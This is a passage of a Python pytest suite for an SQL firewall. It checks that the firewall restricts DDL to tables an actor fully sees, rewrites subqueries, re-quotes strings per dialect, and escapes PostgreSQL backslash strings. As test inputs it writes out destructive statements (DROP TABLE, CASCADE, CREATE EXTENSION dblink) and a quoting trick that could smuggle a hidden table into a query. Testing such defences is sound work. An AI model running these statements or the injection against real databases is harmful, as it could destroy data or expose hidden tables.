        ("ALTER TABLE billing.customers ADD COLUMN x int", "sql_statement_not_allowed"),
        ("DROP TABLE billing.payments", "sql_unknown_table"),
        ("CREATE OR REPLACE VIEW billing.payments_view AS SELECT 1", "sql_unknown_table"),
        ("DROP TABLE billing.invoices CASCADE", "sql_forbidden_construct"),
        ("CREATE FUNCTION f() RETURNS int AS 'SELECT 1' LANGUAGE sql", "sql_forbidden_construct"),
        ("CREATE EXTENSION dblink", "sql_forbidden_construct"),
        ("CREATE TABLE x AS SELECT * FROM billing.payments", "sql_unknown_table"),
    ],
)
def test_ddl_is_limited_to_what_the_actor_sees_in_full(sql: str, code: str) -> None:
    assert refused(sql, ANA_WRITES) == code


def test_ddl_on_tables_seen_in_full_is_allowed() -> None:
    assert allowed("DROP TABLE billing.invoices", ANA_WRITES).sql_after == 'DROP TABLE "billing"."invoices"'
    created = allowed("CREATE TABLE scratch.emea AS SELECT id, email FROM billing.customers", ANA_WRITES)
    assert base_tables(created) == ["billing.customers", "scratch.emea"]
    assert "MD5(" in (created.sql_after or "")


# --- what is generated is what was checked -----------------------------------------------------


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT coalesce((SELECT max(email) FROM billing.customers), 'x')",
        "SELECT 1 WHERE EXISTS (SELECT 1 FROM billing.customers)",
        "SELECT ARRAY(SELECT name FROM billing.customers)",
        "SELECT CASE WHEN (SELECT count(*) FROM billing.customers) > 0 THEN 1 END",
        "SELECT count(*) FILTER (WHERE id IN (SELECT id FROM billing.customers)) FROM billing.invoices",
        "SELECT g FROM generate_series(1, (SELECT count(*) FROM billing.customers)) AS g",
    ],
)
def test_a_table_inside_a_function_argument_is_rewritten_too(sql: str) -> None:
    assert "billing.customers" in base_tables(allowed(sql))


def test_a_select_without_a_select_list_is_refused() -> None:
    assert refused("SELECT") == "sql_parse_error"
    assert refused("SELECT id FROM billing.invoices UNION SELECT") == "sql_parse_error"


@pytest.mark.parametrize(
    ("dialect", "sql"), [("mysql", "SELECT ARRAY(1, 2)"), ("sqlite", "SELECT * FROM billing_invoices AS c(a, b)")]
)
def test_what_the_dialect_cannot_express_is_refused_not_approximated(dialect: str, sql: str) -> None:
    assert refused(sql, policy_for(dialect)) == "sql_parse_error"


def test_backslashes_in_postgresql_strings_become_escape_strings() -> None:
    # 'x\' is one string under standard_conforming_strings = on, and an open one when it is off,
    # which would turn the rest of the statement (here: a hidden table) into SQL.
    decision = allowed("SELECT ' x\\', (SELECT 1) AS y, ' FROM billing.payments --'")
    assert decision.sql_after == "SELECT e' x\\\\', (SELECT 1) AS y, ' FROM billing.payments --' LIMIT 1000"


@pytest.mark.parametrize("dialect", ["mysql", "sqlite", "duckdb"])
def test_strings_are_requoted_for_the_dialect(dialect: str) -> None:
    source = "SELECT 'it''s' AS x" if dialect != "mysql" else "SELECT 'it\\'s' AS x"
    expected = "SELECT 'it''s' AS x LIMIT 1000"
    assert allowed(source, policy_for(dialect)).sql_after == expected


def test_a_sqlite_index_is_written_the_way_sqlite_reads_it() -> None:
    import sqlite3

    policy = FirewallPolicy(dialect="sqlite", tables=(VisibleTable("main", "t", ("id", "name")),),
                            allowed_kinds=frozenset({"select", "ddl"}))  # fmt: skip
    decision = allowed("CREATE INDEX t_name ON t (name)", policy)
    assert decision.sql_after == 'CREATE INDEX t_name ON "t"(name)'
    with sqlite3.connect(":memory:") as connection:
        connection.execute("CREATE TABLE t (id INTEGER, name TEXT)")
        connection.execute(decision.sql_after)  # SQLite refused ON "main"."t"
    assert refused("CREATE INDEX x ON secret (id)", policy) == "sql_unknown_table"
